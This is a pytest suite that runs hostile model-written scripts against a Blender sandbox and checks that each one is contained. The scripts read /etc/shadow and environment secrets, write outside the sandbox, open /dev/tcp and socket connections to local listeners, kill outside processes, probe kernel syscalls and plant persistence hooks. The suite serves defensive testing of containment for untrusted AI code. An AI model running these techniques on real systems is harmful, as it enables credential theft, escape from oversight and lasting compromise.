"""The adversarial suite: hostile model-written scripts against the finished sandbox, each class
checked from OUTSIDE for the harm it tried to do.

For every attack: no file appeared outside the work dir (a watched folder keeps its exact
listing and contents), the canary values (API keys in the parent's environment under secret
and plain names, a host file, /etc/shadow, a project file) are nowhere in the result, the error,
the log, the attempts log or the outputs, a listener on 127.0.0.1 (TCP), an abstract and a
filesystem Unix socket received nothing (also checked seconds after the last run, for delayed
daemons), no process of the job is alive afterwards (its pid namespace is empty), the parent
returned within the timeout, a process outside (a `sleep`) is still alive, the Blender runtime
and blender_cli/ are unchanged, and the work dir is gone.

Every attack here was first run WITHOUT the sandbox (same Blender runtime) and did the harm:
the C-level writers (save_as_mainfile, _bpy.ops.call, Image.save_render/save, libraries.write,
glTF/OBJ export, render write_still, fluid cache and geometry-nodes bake directories),
texts.load of any file, _posixsubprocess.fork_exec, multiprocessing spawn, sub-interpreters,
posix_spawn and a raw clone syscall all wrote or ran outside. The attacks run two at a time
(2 cores); a batch script runs each attempt in try/except and must reach its final marker, so
one attempt failing cannot hide the others.
"""

from __future__ import annotations

import asyncio
import hashlib
import json
import os
import re
import socket
import subprocess
import textwrap
import threading
import time
from dataclasses import dataclass
from pathlib import Path

import pytest

from comfy_avatar_nodes.core.config import PACK_DIR, SandboxSettings
from comfy_avatar_nodes.core.executor.agent import build_asset
from comfy_avatar_nodes.core.executor.sandbox import SandboxRun, run_script
from comfy_avatar_nodes.core.runtime import isolation

pytestmark = pytest.mark.blender

SECRET = "sk-canary-attack-3f9d2c7a1e"
PLAIN_SECRET = "plain-canary-value-8c2e41"  # under a name that does not look secret
HOST_SECRET = "host-file-canary-5e7a90d1"
PROJECT_CHUNK = (PACK_DIR / "install.py").read_text()[:120]
DEFAULT = SandboxSettings(timeout_s=90, cpu_s=120, memory_mb=4096)
PRELUDE = """import os as _os_for_test
print("PIDNS", _os_for_test.readlink("/proc/self/ns/pid"), flush=True)
"""
ATTEMPT = """
import json as _json
REPORT = []
def attempt(name, fn):
    try:
        r = fn()
        REPORT.append(f"{name}: DONE {r!r}"[:400])
    except BaseException as e:  # noqa
        REPORT.append(f"{name}: {type(e).__name__}: {e}"[:400])
def finish():
    # again: the secrets batch reads its own log pipe back through /proc/1/fd/1, eating earlier lines
    print("PIDNS", _os_for_test.readlink("/proc/self/ns/pid"), flush=True)
    print("REPORT " + _json.dumps(REPORT), flush=True)
    print("ATTACKS-DONE", flush=True)
"""


@dataclass
class Attack:
    name: str
    source: str
    settings: SandboxSettings = DEFAULT
    formats: tuple[str, ...] = ("glb",)
    batch: bool = False  # must print ATTACKS-DONE
    via_agent: bool = False  # through build_asset: an attempts log and the kept log are checked too
    expect_error: tuple[str, ...] = ()  # one of these in the error (when the outcome itself is the point)
    run: SandboxRun | None = None
    log: str = ""  # the whole kept log (the run's log_tail has only its last lines)
    out_dir: Path | None = None
    seconds: float = 0.0
    exception: BaseException | None = None


def attacks(c: dict) -> list[Attack]:
    """The suite; ``c`` holds the canaries' host paths and ports (an attacker may guess them)."""
    f = {k: repr(str(v)) if isinstance(v, Path) else repr(v) for k, v in c.items()}
    return [
        Attack(
            "re-exported modules, attrgetter/methodcaller, dir_fd, symlink race, escape links",
            f"""
import bpy, dataclasses, operator, threading
os_ = dataclasses.inspect.os
OUTSIDE, CANARY = {f["outside"]}, {f["outside"]} + "/canary.txt"
attempt("builtins.open via inspect", lambda: dataclasses.inspect.builtins.open(CANARY, "w").write("pwned"))
attempt("methodcaller system", lambda: operator.methodcaller("system", "echo pwned > " + CANARY)(os_))
attempt("attrgetter sys.modules", lambda: operator.attrgetter("sys.modules")(os_)["os"].makedirs(OUTSIDE + "/new"))
attempt("dir_fd open", lambda: os_.open("c2.txt", os_.O_CREAT | os_.O_WRONLY, dir_fd=os_.open(OUTSIDE, os_.O_RDONLY)))
attempt("dir_fd from /", lambda: os_.open(OUTSIDE.lstrip("/") + "/c3.txt", os_.O_CREAT | os_.O_WRONLY,
                                          dir_fd=os_.open("/", os_.O_RDONLY)))
attempt("rename into outside", lambda: (open("/job/x", "w").write("x"), os_.rename("/job/x", OUTSIDE + "/x")))
attempt("hard link outside", lambda: os_.link(OUTSIDE + "/keep.txt", "/job/hard"))
stop = []
def flip():
    while not stop:
        for t in ("/job/harmless.txt", CANARY):
            try: os_.remove("/job/race")
            except OSError: pass
            try: os_.symlink(t, "/job/race")
            except OSError: pass
th = threading.Thread(target=flip); th.start()
for _ in range(300):
    try: open("/job/race", "a").write("x")
    except OSError: pass
stop.append(1); th.join()
os_.makedirs("/job/out", exist_ok=True)
attempt("escape link for the cleanup", lambda: os_.symlink(OUTSIDE, "/job/escape"))
attempt("link in out/", lambda: os_.symlink(OUTSIDE + "/keep.txt", "/job/out/keep-link"))
attempt("private /tmp copy of the outside path", lambda: (os_.makedirs(OUTSIDE, exist_ok=True),
                                                          open(CANARY, "w").write("only in my /tmp")))
bpy.ops.mesh.primitive_cube_add()
finish()
""",
            batch=True,
        ),
        Attack(
            "secrets: environment, /proc, pid 1's fds, host and project files, into every output",
            f"""
import bpy, glob, json, os
texts = {{"env": dict(os.environ)}}
def nb_read(p):
    fd = os.open(p, os.O_RDONLY | os.O_NONBLOCK)
    try:
        return os.read(fd, 65536).decode("latin1")
    finally:
        os.close(fd)
for p in ["/proc/self/environ", "/proc/1/environ", "/proc/1/cmdline", "/proc/self/cmdline",
          *glob.glob("/proc/[0-9]*/environ"), *glob.glob("/proc/[0-9]*/cmdline"),
          {f["host_secret"]}, "/etc/shadow", "/etc/passwd", "/root/.bash_history", {f["project_file"]},
          "/proc/kcore", "/proc/keys", "/proc/kallsyms", "/dev/mem"]:
    attempt("read " + p, lambda p=p: texts.__setitem__(p, nb_read(p)))
for fd in os.listdir("/proc/1/fd"):  # bwrap's init: the log pipe, /dev/null, an eventfd
    attempt("pid 1 fd " + fd, lambda fd=fd: texts.__setitem__("fd" + fd, os.readlink("/proc/1/fd/" + fd) + ":"
                                                            + nb_read("/proc/1/fd/" + fd)))
attempt("list /", lambda: texts.setdefault("ls", {{d: sorted(os.listdir(d)) for d in ("/", "/root", "/etc")
                                                    if os.path.isdir(d)}}))
blob = json.dumps([texts, REPORT])
bpy.ops.mesh.primitive_cube_add()
o = bpy.context.active_object
o.name = blob[:60]
o["leak"] = blob[:200000]
m = bpy.data.materials.new(blob[:60]); o.data.materials.append(m)
print(blob[:300000])
with open(os.environ["COMFY_AVATAR_OUTPUT_DIR"] + "/leak.txt", "w") as fh:
    fh.write(blob)
finish()
""",
            formats=("glb", "blend"),
            batch=True,
            via_agent=True,
        ),
        Attack(
            "Blender C-level I/O: operators, _bpy.ops.call, image/library writers, render, GN bake",
            f"""
import bpy, _bpy
OUTSIDE = {f["outside"]}
bpy.ops.mesh.primitive_cube_add()
attempt("save_as_mainfile", lambda: bpy.ops.wm.save_as_mainfile(filepath=OUTSIDE + "/a.blend", copy=True))
attempt("_bpy.ops.call", lambda: _bpy.ops.call("WM_OT_save_as_mainfile", {{"filepath": OUTSIDE + "/b.blend", "copy": True}}))
img = bpy.data.images.new("img", 8, 8)
attempt("Image.save_render", lambda: img.save_render(OUTSIDE + "/c.png"))
img.filepath_raw = OUTSIDE + "/d.png"; img.file_format = "PNG"
attempt("Image.save", lambda: img.save())
attempt("libraries.write", lambda: bpy.data.libraries.write(OUTSIDE + "/e.blend", set()))
attempt("gltf export", lambda: bpy.ops.export_scene.gltf(filepath=OUTSIDE + "/f.glb", export_format="GLB"))
attempt("obj export", lambda: bpy.ops.wm.obj_export(filepath=OUTSIDE + "/g.obj"))
for p in ("/proc/1/environ", {f["host_secret"]}, "/etc/shadow", {f["project_file"]}):
    attempt("texts.load " + p, lambda p=p: bpy.data.texts.load(p).as_string()[:100])
sc = bpy.context.scene
sc.render.engine = "BLENDER_WORKBENCH"; sc.render.resolution_x = sc.render.resolution_y = 16
sc.render.filepath = OUTSIDE + "/h.png"
bpy.ops.object.camera_add(location=(3, -3, 3)); sc.camera = bpy.context.active_object
attempt("render write_still", lambda: bpy.ops.render.render(write_still=True))
bpy.ops.mesh.primitive_cube_add(location=(-5, 0, 0)); gobj = bpy.context.active_object
ng = bpy.data.node_groups.new("G", "GeometryNodeTree")
ng.interface.new_socket("Geometry", in_out="INPUT", socket_type="NodeSocketGeometry")
ng.interface.new_socket("Geometry", in_out="OUTPUT", socket_type="NodeSocketGeometry")
gi = ng.nodes.new("NodeGroupInput"); go = ng.nodes.new("NodeGroupOutput"); bk = ng.nodes.new("GeometryNodeBake")
ng.links.new(gi.outputs[0], bk.inputs[0]); ng.links.new(bk.outputs[0], go.inputs[0])
gm = gobj.modifiers.new("GN", "NODES"); gm.node_group = ng
gm.bake_target = "DISK"; gm.bake_directory = OUTSIDE + "/gn"
bpy.context.view_layer.update()
def gn_bake():
    out = []
    for b in gm.bakes:
        b.bake_mode = "STILL"
        with bpy.context.temp_override(object=gobj, active_object=gobj):
            out.append(bpy.ops.object.geometry_node_bake_single(session_uid=gobj.session_uid, modifier_name=gm.name,
                                                                  bake_id=b.bake_id))
    return out
attempt("geometry nodes bake_directory", gn_bake)
finish()
""",
            batch=True,
        ),
        Attack(
            "fluid cache_directory bake (mantaflow aborts the process afterwards)",
            f"""
import bpy
OUTSIDE = {f["outside"]}
bpy.ops.mesh.primitive_cube_add(size=2); dom = bpy.context.active_object
mod = dom.modifiers.new("Fluid", "FLUID"); mod.fluid_type = "DOMAIN"
ds = mod.domain_settings; ds.resolution_max = 6; ds.cache_directory = OUTSIDE + "/fluid"; ds.cache_frame_end = 2
ds.cache_type = "ALL"
bpy.ops.mesh.primitive_ico_sphere_add(radius=0.3); flow = bpy.context.active_object
fm = flow.modifiers.new("Fluid", "FLUID"); fm.fluid_type = "FLOW"
bpy.context.scene.frame_end = 2
print("baking", flush=True)
try:
    with bpy.context.temp_override(object=dom, active_object=dom, selected_objects=[dom]):
        print("bake", bpy.ops.fluid.bake_all(), flush=True)
except Exception as e:
    print("bake failed", e, flush=True)
""",
        ),
        Attack(
            "process creation: fork_exec, multiprocessing, sub-interpreter, posix_spawn, raw clone, "
            "signals to the outside, a daemon",
            f"""
import bpy, ctypes, os, signal, socket, threading, time, _posixsubprocess, multiprocessing
OUTSIDE, PORT, OUTSIDE_PID = {f["outside"]}, {c["port"]}, {c["outside_pid"]}
CMD = "touch " + OUTSIDE + "/ran; sleep 3; exec 3<>/dev/tcp/127.0.0.1/" + str(PORT)
def fe():
    r, w = os.pipe()
    return _posixsubprocess.fork_exec(["/bin/sh", "-c", CMD], [b"/bin/sh"], True, (), None, None, -1, -1, -1, -1,
                                      -1, -1, r, w, True, True, -1, None, None, None, -1, None, False)
attempt("_posixsubprocess.fork_exec", fe)
def mp():
    p = multiprocessing.get_context("spawn").Process(target=os.system, args=(CMD,)); p.start(); return p.pid
attempt("multiprocessing spawn", mp)
attempt("multiprocessing fork", lambda: multiprocessing.get_context("fork").Process(target=os.system, args=(CMD,)).start())
def sub():
    import _xxsubinterpreters as si
    i = si.create(); si.run_string(i, "import os; print('subinterp', os.system(" + repr(CMD) + "))"); return i
attempt("sub-interpreter", sub)
attempt("os.posix_spawn", lambda: os.posix_spawn("/bin/sh", ["/bin/sh", "-c", CMD], {{}}))
attempt("os.fork", os.fork)
attempt("os.system", lambda: os.system(CMD))
libc = ctypes.CDLL(None, use_errno=True)
attempt("raw clone", lambda: (libc.syscall(56, 17, 0, 0, 0, 0), ctypes.get_errno()))
attempt("raw vfork", lambda: (libc.syscall(58), ctypes.get_errno()))
attempt("kill outside pid", lambda: os.kill(OUTSIDE_PID, signal.SIGKILL))
attempt("pidfd_send_signal outside pid", lambda: signal.pidfd_send_signal(os.pidfd_open(OUTSIDE_PID), signal.SIGKILL))
attempt("kill(-1)", lambda: os.kill(-1, signal.SIGKILL))
attempt("ptrace pid 1", lambda: (libc.ptrace(16, 1, 0, 0), ctypes.get_errno()))
attempt("setsid", os.setsid)
def beacon():
    while True:
        try:
            socket.create_connection(("127.0.0.1", PORT), timeout=1).sendall(b"daemon")
        except OSError:
            pass
        time.sleep(0.2)
threading.Thread(target=beacon, daemon=True).start()
time.sleep(1)
bpy.ops.mesh.primitive_cube_add()
finish()
""",
            batch=True,
        ),
        Attack(
            "kernel surface: sysctl, mount, namespaces, keyrings, bpf, io_uring, x32, sockets, tty, "
            "persistence in the runtime",
            f"""
import bpy, ctypes, errno, fcntl, os, socket, sys, sysconfig, termios
libc = ctypes.CDLL(None, use_errno=True)
def sc(nr, *a):
    r = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(x) for x in a])
    return r, errno.errorcode.get(ctypes.get_errno(), "")
def wr(p, data="x"):
    with open(p, "a") as fh:
        fh.write(data)
attempt("core_pattern", lambda: wr("/proc/sys/kernel/core_pattern", "|/bin/sh -c 'touch {c["outside"]}/core'"))
attempt("sysrq", lambda: wr("/proc/sysrq-trigger", "h"))
attempt("unshare user", lambda: sc(272, 0x10000000))
attempt("unshare net", lambda: sc(272, 0x40000000))
attempt("mount tmpfs", lambda: sc(165, 0, 0, 0, 0, 0))
attempt("keyctl", lambda: sc(250, 0, 0, 0, 0, 0))
attempt("bpf", lambda: sc(321, 0, 0, 0))
attempt("io_uring_setup", lambda: sc(425, 4, 0))
attempt("perf_event_open", lambda: sc(298, 0, 0, -1, -1, 0))
attempt("x32 unshare", lambda: sc(0x40000000 + 272, 0x10000000))
attempt("chroot", lambda: sc(161, 0))
def memfd():  # pages outside RLIMIT_AS and outside the size-limited tmpfs mounts
    fd = os.memfd_create("hog")
    for _ in range(64):
        os.write(fd, bytes(1 << 20))
    return os.fstat(fd).st_size
attempt("memfd_create", memfd)
attempt("SysV shmget", lambda: sc(29, 0, 64 << 20, 0o1000 | 0o600))
attempt("TIOCSTI /dev/tty", lambda: fcntl.ioctl(os.open("/dev/tty", os.O_RDWR), termios.TIOCSTI, b"x"))
attempt("TIOCSTI stdin", lambda: fcntl.ioctl(0, termios.TIOCSTI, b"x"))
attempt("tcp 127.0.0.1", lambda: socket.create_connection(("127.0.0.1", {c["port"]}), timeout=2).sendall(b"tcp"))
attempt("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"udp", ("127.0.0.1", {c["port"]})))
attempt("netlink", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW))
def unix(addr):
    s = socket.socket(socket.AF_UNIX); s.settimeout(2); s.connect(addr); s.sendall(b"unix")
attempt("abstract unix", lambda: unix("\\0" + {f["abstract"]}))
attempt("filesystem unix", lambda: unix({f["unix_path"]}))
site = sysconfig.get_paths()["purelib"]
for p in (site + "/sitecustomize.py", site + "/evil.pth", sys.prefix + "/pyvenv.cfg", {f["blender_cli"]} + "/sandbox_exec.py",
          "/usr/lib/evil", "/etc/ld.so.cache", os.path.dirname(__import__("bpy").__file__) + "/__init__.py"):
    attempt("persist " + p, lambda p=p: wr(p, "\\nimport os; os.system('touch /tmp/pwned')\\n"))
bpy.ops.mesh.primitive_cube_add()
finish()
""",
            batch=True,
        ),
        Attack(
            "result.json replaced by a symlink to /proc/self/environ",
            """
import os
args = open("/proc/self/cmdline", "rb").read().split(b"\\0")
job = __import__("json").load(open(args[args.index(b"--job") + 1].decode()))
os.symlink("/proc/self/environ", job["result"])
os.makedirs("/job/out", exist_ok=True)
os.symlink("/proc/self/environ", "/job/out/asset.glb")
os._exit(0)
""",
            expect_error=("without writing a result",),
        ),
        Attack(
            "fake ok result, outputs as symlinks / FIFO",
            """
import json, os
args = open("/proc/self/cmdline", "rb").read().split(b"\\0")
job = json.load(open(args[args.index(b"--job") + 1].decode()))
os.makedirs("/job/out", exist_ok=True)
os.symlink("/proc/self/environ", "/job/out/asset.glb")
os.mkfifo("/job/out/asset.fbx")
with open(job["result"], "w") as fh:
    json.dump({"ok": True, "result": {"files": {"glb": "../../../../proc/self/environ", "fbx": "out/asset.fbx"},
                                      "triangles": 12}}, fh)
os._exit(0)
""",
            formats=("glb", "fbx"),
            expect_error=("could not be taken from the work dir",),
        ),
        Attack(
            "fake ok result, out/ is a symlink to /proc/self",
            """
import json, os
args = open("/proc/self/cmdline", "rb").read().split(b"\\0")
job = json.load(open(args[args.index(b"--job") + 1].decode()))
os.rmdir("/job/out") if os.path.isdir("/job/out") else None
os.symlink("/proc/self", "/job/out")
os.symlink("environ", "/job/asset.glb")
with open(job["result"], "w") as fh:
    json.dump({"ok": True, "result": {"files": {"glb": "out/environ"}}}, fh)
os._exit(0)
""",
            expect_error=("could not be taken from the work dir",),
        ),
        Attack(
            "result.json and the output as FIFOs (the parent must not hang)",
            """
import json, os
args = open("/proc/self/cmdline", "rb").read().split(b"\\0")
job = json.load(open(args[args.index(b"--job") + 1].decode()))
os.makedirs("/job/out", exist_ok=True)
os.mkfifo("/job/out/asset.glb")
os.mkfifo(job["result"])
os._exit(0)
""",
            expect_error=("without writing a result",),
        ),
        Attack(
            "a 100 MB result.json",
            """
import json, os
args = open("/proc/self/cmdline", "rb").read().split(b"\\0")
job = json.load(open(args[args.index(b"--job") + 1].decode()))
with open(job["result"], "w") as fh:
    fh.write('{"ok": true, "result": {"pad": "' + "x" * (100 * 1024 * 1024) + '"}}')
os._exit(0)
""",
            expect_error=("without writing a result",),
        ),
        Attack(
            "a 1.5 MB error message and traceback (they travel to logs and the coder's prompt)",
            """
import json, os
args = open("/proc/self/cmdline", "rb").read().split(b"\\0")
job = json.load(open(args[args.index(b"--job") + 1].decode()))
with open(job["result"], "w") as fh:
    json.dump({"ok": False, "error": "E" * 1_500_000, "error_type": "T" * 10000, "traceback": "B" * 1_500_000}, fh)
os._exit(1)
""",
            expect_error=("EEEE",),
        ),
        Attack(
            "filling the work dir",
            """
import os
i = 0
while True:
    with open(f"/job/fill{i}", "wb") as fh:
        fh.write(os.urandom(8 << 20))
    i += 1
""",
            settings=SandboxSettings(timeout_s=90, cpu_s=120, memory_mb=4096, work_mb=64),
            expect_error=("filled its work dir past the limit",),
        ),
        Attack(
            "filling /tmp and /dev/shm (memory-backed)",
            """
import bpy, os
for d in ("/tmp", "/dev/shm"):
    n = 0
    try:
        with open(d + "/fill", "wb") as fh:
            while n < 4096:
                fh.write(b"\\0" * (1 << 20)); n += 1
    except OSError as e:
        print("FILLED", d, n, "MB", e, flush=True)
    else:
        print("FILLED", d, n, "MB without error", flush=True)
bpy.ops.mesh.primitive_cube_add()
""",
        ),
        Attack(
            "log flood",
            """
import bpy, os
line = b"flood " * 2000 + b"\\n"
for _ in range(15000):   # ~180 MB
    os.write(1, line)
bpy.ops.mesh.primitive_cube_add()
print("FLOOD-END", flush=True)
""",
        ),
        Attack(
            "thread bomb",
            """
import bpy, threading, time
n = 0
try:
    while n < 100000:
        threading.Thread(target=time.sleep, args=(30,), daemon=True).start(); n += 1
except (RuntimeError, MemoryError) as e:
    print("THREADS", n, e, flush=True)
bpy.ops.mesh.primitive_cube_add()
""",
            settings=SandboxSettings(timeout_s=60, cpu_s=120, memory_mb=3072),
        ),
    ]


def _pid_ns_members(ns: str) -> list[int]:
    found = []
    for d in Path("/proc").iterdir():
        if not d.name.isdigit():
            continue
        try:
            if os.readlink(d / "ns" / "pid") == ns and (d / "stat").read_text().rsplit(")", 1)[1].split()[0] != "Z":
                found.append(int(d.name))
        except OSError:
            continue
    return found


def _tree_state(root: Path) -> dict[str, str]:
    """Every path under ``root`` (not following links) with its content hash or kind."""
    out = {}
    for dirpath, dirs, files in os.walk(root, followlinks=False):
        for name in dirs + files:
            p = Path(dirpath, name)
            rel = str(p.relative_to(root))
            if p.is_symlink():
                out[rel] = "link:" + os.readlink(p)
            elif p.is_file():
                out[rel] = hashlib.sha256(p.read_bytes()).hexdigest()
            else:
                out[rel] = "dir"
    return out


def _persistence_targets(runtime) -> list[Path]:
    """What the persistence attempts write to: the runtime's site-packages hooks, its pyvenv.cfg and
    bpy/__init__.py, blender_cli/sandbox_exec.py, /usr and /etc/ld.so.cache."""
    system = [
        PACK_DIR / "blender_cli" / "sandbox_exec.py",
        Path("/usr/lib/evil"),
        Path("/etc/ld.so.cache"),
        Path("/tmp/pwned"),
    ]
    if runtime.kind != "python":  # a Blender binary: its install folder is bound read-only like the rest
        return system + [Path(runtime.executable)]
    out = subprocess.run(
        [
            str(runtime.executable),
            "-I",
            "-c",
            "import sysconfig, sys, importlib.util as u;"
            "print(sysconfig.get_paths()['purelib']); print(sys.prefix);"
            "print(u.find_spec('bpy').origin)",
        ],
        capture_output=True,
        text=True,
        timeout=60,
    )
    site, prefix, bpy_init = out.stdout.split()
    return [Path(site, "sitecustomize.py"), Path(site, "evil.pth"), Path(prefix, "pyvenv.cfg"), Path(bpy_init), *system]


def _digest(p: Path) -> str:
    try:
        return hashlib.sha256(p.read_bytes()).hexdigest()
    except OSError as e:
        return f"absent ({e.errno})"


class Listeners:
    """TCP on 127.0.0.1, an abstract and a filesystem Unix socket; each counts what reaches it."""

    def __init__(self, tmp: Path) -> None:
        self.received: list[str] = []
        self.tcp = socket.socket()
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen(16)
        self.port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.port))
        self.abstract_name = f"comfy-avatar-attack-{self.port}"
        self.abstract = socket.socket(socket.AF_UNIX)
        self.abstract.bind("\0" + self.abstract_name)
        self.abstract.listen(4)
        self.unix_path = tmp / "host.sock"
        self.unix = socket.socket(socket.AF_UNIX)
        self.unix.bind(str(self.unix_path))
        self.unix.listen(4)
        self._stop = threading.Event()
        self._threads = [
            threading.Thread(target=self._serve, args=(s, n), daemon=True)
            for s, n in ((self.tcp, "tcp"), (self.abstract, "abstract"), (self.unix, "unix"))
        ]
        self._threads.append(threading.Thread(target=self._udp, daemon=True))
        for t in self._threads:
            t.start()

    def _serve(self, s: socket.socket, name: str) -> None:
        s.settimeout(0.2)
        while not self._stop.is_set():
            try:
                conn, _ = s.accept()
            except OSError:
                continue
            self.received.append(name)
            conn.close()

    def _udp(self) -> None:
        self.udp.settimeout(0.2)
        while not self._stop.is_set():
            try:
                self.udp.recvfrom(100)
                self.received.append("udp")
            except OSError:
                continue

    def close(self) -> None:
        self._stop.set()
        for t in self._threads:
            t.join(2)
        for s in (self.tcp, self.udp, self.abstract, self.unix):
            s.close()


async def _run_one(a: Attack, root: Path, sem: asyncio.Semaphore, runtime) -> None:
    a.out_dir = root / a.name[:40].replace(" ", "_").replace("/", "_").replace(",", "")
    src = PRELUDE + (ATTEMPT if a.batch else "") + textwrap.dedent(a.source)
    async with sem:
        t0 = time.perf_counter()
        try:
            if a.via_agent:
                res = await build_asset(
                    {},
                    coder=None,
                    out_dir=a.out_dir,
                    name="asset",
                    formats=list(a.formats),
                    script=src,
                    max_attempts=1,
                    sandbox=a.settings,
                    runtime=runtime,
                )
                a.run = SandboxRun(
                    True,
                    "blender",
                    outputs=res.outputs,
                    result=res.result,
                    log_tail=Path(res.log_path).read_text(errors="replace"),
                )
                a.log = a.run.log_tail
            else:
                a.run = await run_script(
                    src,
                    out_dir=a.out_dir,
                    formats=a.formats,
                    sandbox=a.settings,
                    runtime=runtime,
                    keep_log=a.out_dir / "kept.log",
                )
                a.log = (a.out_dir / "kept.log").read_text(errors="replace")
        except BaseException as e:  # noqa: BLE001 - examined by the test
            a.exception = e
        a.seconds = time.perf_counter() - t0


@pytest.fixture(scope="module")
def suite(tmp_path_factory, blender_runtime):
    st = isolation.check()
    from conftest import need

    need(st.ok, f"bubblewrap isolation is not available: {st.problem}")
    tmp = tmp_path_factory.mktemp("attacks")
    outside = tmp / "outside"
    outside.mkdir()
    (outside / "keep.txt").write_text("keep me")
    host_secret = tmp / "host_secret.txt"
    host_secret.write_text(HOST_SECRET)
    listeners = Listeners(tmp)
    sleeper = subprocess.Popen(["sleep", "600"])
    shadow = ""
    try:
        shadow = Path("/etc/shadow").read_text().splitlines()[0]
    except (OSError, IndexError):
        pass
    env_names = {
        "COMFY_AVATAR_LLM_API_KEY": SECRET,
        "OPENAI_API_KEY": SECRET,
        "AWS_SECRET_ACCESS_KEY": SECRET,
        "HF_TOKEN": SECRET,
        "RANDOM_THING": PLAIN_SECRET,
    }
    saved = {k: os.environ.get(k) for k in env_names}
    os.environ.update(env_names)
    core_pattern = Path("/proc/sys/kernel/core_pattern").read_text()
    watched = _persistence_targets(blender_runtime)
    watched_before = {p: _digest(p) for p in watched}
    before_outside = _tree_state(outside)
    ctx = {
        "outside": outside,
        "port": listeners.port,
        "outside_pid": sleeper.pid,
        "host_secret": host_secret,
        "project_file": PACK_DIR / "install.py",
        "abstract": listeners.abstract_name,
        "unix_path": listeners.unix_path,
        "blender_cli": PACK_DIR / "blender_cli",
    }
    suite = attacks(ctx)

    async def main():
        sem = asyncio.Semaphore(2)
        await asyncio.gather(*(_run_one(a, tmp / "runs", sem, blender_runtime) for a in suite))

    try:
        t0 = time.perf_counter()
        asyncio.run(main())
        took = time.perf_counter() - t0
        time.sleep(4)  # a daemon that waited before phoning home would have done it by now
        yield {
            "attacks": {a.name: a for a in suite},
            "outside": outside,
            "before_outside": before_outside,
            "listeners": listeners.received[:],
            "sleeper_alive": sleeper.poll() is None,
            "needles": [n for n in (SECRET, PLAIN_SECRET, HOST_SECRET, PROJECT_CHUNK, shadow) if n],
            "core_pattern": (core_pattern, Path("/proc/sys/kernel/core_pattern").read_text()),
            "watched": (watched_before, {p: _digest(p) for p in watched}),
            "took": took,
            "tmp": tmp,
        }
    finally:
        listeners.close()
        sleeper.kill()
        sleeper.wait()
        for k, v in saved.items():
            if v is None:
                os.environ.pop(k, None)
            else:
                os.environ[k] = v


def _leaks(a: Attack, needles: list[str]) -> list[str]:
    found = []
    texts = {
        "error": a.run.error if a.run else str(a.exception),
        "log": a.log + (a.run.log_tail if a.run else ""),
        "result": json.dumps(a.run.result if a.run else {}, default=str),
    }
    for where, text in texts.items():
        found += [f"{n[:20]}... in the {where}" for n in needles if n in text]
    for p in a.out_dir.rglob("*") if a.out_dir and a.out_dir.exists() else []:
        if p.is_file() and not p.is_symlink():
            data = p.read_bytes()
            found += [f"{n[:20]}... in {p.name}" for n in needles if n.encode() in data]
    return found


NAMES = [
    a.name
    for a in attacks(
        {
            k: ""
            for k in (
                "outside",
                "port",
                "outside_pid",
                "host_secret",
                "project_file",
                "abstract",
                "unix_path",
                "blender_cli",
            )
        }
        | {"port": 0, "outside_pid": 0}
    )
]


@pytest.mark.parametrize("name", NAMES, ids=[re.sub(r"[^a-z0-9]+", "-", n.lower())[:40].strip("-") for n in NAMES])
def test_attack_is_contained(suite, name, capsys):
    a: Attack = suite["attacks"][name]
    assert a.exception is None, f"the sandbox raised instead of reporting: {a.exception!r}"
    r = a.run
    why = []
    limit = a.settings.timeout_s + 30
    if a.seconds > limit:
        why.append(f"the parent returned after {a.seconds:.1f} s (timeout {a.settings.timeout_s:g} s)")
    if a.expect_error and not any(e in r.error for e in a.expect_error):
        why.append(f"expected one of {a.expect_error} in the error, got {r.error[:300]!r}")
    if a.batch and "ATTACKS-DONE" not in a.log:
        why.append("the batch did not reach its end marker (an attempt ended the process): " + r.error[:300])
    leaks = _leaks(a, suite["needles"])
    if leaks:
        why.append("canary leaked: " + "; ".join(leaks[:5]))
    ns = re.search(r"PIDNS (pid:\[\d+\])", a.log)
    if ns is None and "log flood" not in name:
        why.append("the job's pid namespace was not reported")
    elif ns and (ns.group(1) == os.readlink("/proc/self/ns/pid") or _pid_ns_members(ns.group(1))):
        why.append(f"processes of the job are alive afterwards (or it shared our pid namespace): {ns.group(1)}")
    if r.work_dir and Path(r.work_dir).parent.exists():
        why.append(f"the work dir {Path(r.work_dir).parent} was left behind")
    report = re.search(r"REPORT (\[.*\])", a.log)
    with capsys.disabled():
        print(f"\n  {name}: {r.stage} ok={r.ok} {a.seconds:.1f}s -- {r.error[:160]}")
        for line in json.loads(report.group(1)) if report else []:
            print(f"      {line[:150]}")
        for line in a.log.splitlines():
            if line.startswith(("FILLED", "THREADS")):
                print(f"      {line[:150]}")
    assert not why, "; ".join(why)


def test_nothing_outside_changed(suite):
    assert _tree_state(suite["outside"]) == suite["before_outside"], "a file outside the work dir was written"
    assert suite["listeners"] == [], f"a listener on the host received {suite['listeners']}"
    assert suite["sleeper_alive"], "a process outside the sandbox was killed"
    before, after = suite["core_pattern"]
    assert before == after
    watched_before, watched_after = suite["watched"]
    assert watched_before == watched_after, "the Blender runtime, blender_cli/ or a system file was modified"


def test_specific_outcomes(suite):
    a = suite["attacks"]
    flood = next(x for x in a.values() if x.name == "log flood")
    assert flood.run.ok and "FLOOD-END" in flood.run.log_tail  # the tail of a flood survives the cap
    assert (flood.out_dir / "kept.log").stat().st_size < 9 * 1024 * 1024
    fill = next(x for x in a.values() if x.name.startswith("filling /tmp"))
    sizes = {m.group(1): int(m.group(2)) for m in re.finditer(r"FILLED (\S+) (\d+) MB", fill.log)}
    assert sizes["/tmp"] <= SandboxSettings().tmp_mb and sizes["/dev/shm"] <= 64, sizes
    big = next(x for x in a.values() if x.name.startswith("a 1.5 MB error"))
    assert len(big.run.error) < 6000 and len(json.dumps(big.run.to_dict())) < 64 * 1024
    threads = next(x for x in a.values() if x.name == "thread bomb")
    assert threads.run.ok and "THREADS" in threads.log  # bounded by the address-space limit
    print(f"\nattack suite: {len(a)} attacks in {suite['took']:.0f} s, all contained")
